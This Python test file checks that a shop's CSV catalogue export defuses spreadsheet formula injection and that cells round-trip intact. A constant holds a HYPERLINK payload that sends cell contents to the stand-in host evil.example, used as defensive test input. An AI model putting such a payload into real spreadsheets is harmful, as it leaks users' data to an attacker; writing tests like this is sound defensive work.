"""No cell of a CSV of ours is a formula to who opens it, and what comes back is what went out."""

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shop import catalog_files
from storefront.kernel.spreadsheets import as_it_was, defused
from tests.catalog.shelf import as_lines, counts, taken, whole_catalog, written

ROOT = Path(__file__).parents[2]
EVIL = '=HYPERLINK("https://evil.example?"&A1,"Rice")'
# Where tables are written; each defuses its cells, or writes rows that are.
WRITERS = {
    "shop/catalog_files.py",
    "shop/shipment_commands.py",
    "shop/support_commands.py",
    "storefront/web/desk/reports.py",
}


@given(st.text(alphabet="'=+-@\t\ra1", max_size=6))
def test_no_cell_is_a_formula_and_each_comes_back_as_it_was(cell: str) -> None:
    assert not defused(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert as_it_was(defused(cell)) == cell


@pytest.mark.parametrize("number", [-5, 0, 12, None])
def test_numbers_stay_numbers(number: int | None) -> None:
    assert defused(number) == number


def test_every_file_that_writes_a_table_is_known_here() -> None:
    files = [path for folder in ("bot", "shop", "storefront", "webchat") for path in (ROOT / folder).rglob("*.py")]
    found = {
        str(path.relative_to(ROOT))
        for path in files
        if "csv.writer(" in (text := path.read_text(encoding="utf-8")) or "csv.DictWriter(" in text
    }

    assert found == WRITERS


async def test_a_merchants_formula_is_text_in_the_exported_catalog_and_comes_back(
    database: str, tmp_path: Path
) -> None:
    row = {
        "sku": "=1+1",
        "item": "@rice",
        "name_en": EVIL,
        "name_ru": "'-рис",
        "description_en": "+1",
        "price_minor": 100,
    }
    assert (await taken(written(tmp_path, as_lines([row]), "in.jsonl"))).refused == 0
    before = await whole_catalog()
    out = tmp_path / "out.csv"

    await catalog_files.write_rows(out)

    with out.open(encoding="utf-8", newline="") as file:
        cells = [cell for line in csv.reader(file) for cell in line]
    assert f"'{EVIL}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert counts(await taken(out)) == (0, 0, 1, 0)
    assert await whole_catalog() == before
